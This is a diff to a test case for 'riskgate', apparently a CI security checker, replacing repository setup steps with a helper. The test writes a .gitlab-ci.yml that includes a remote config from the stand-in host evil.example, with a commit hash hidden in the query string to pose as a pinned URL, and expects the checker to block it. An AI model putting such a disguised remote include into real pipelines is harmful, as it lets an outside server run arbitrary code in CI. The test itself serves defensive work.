@@ -1,10 +1,7 @@
 # attack: a remote include (top level, or a child pipeline's `trigger: include:`) names a 40-hex commit SHA only in its query string or fragment, which riskgate took for a pinned URL while the server sends whatever it likes
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 sha=0123456789abcdef0123456789abcdef01234567
 write .gitlab-ci.yml 'include:' "  - remote: https://evil.example/ci.yml?pin=/$sha/"
 git add -A
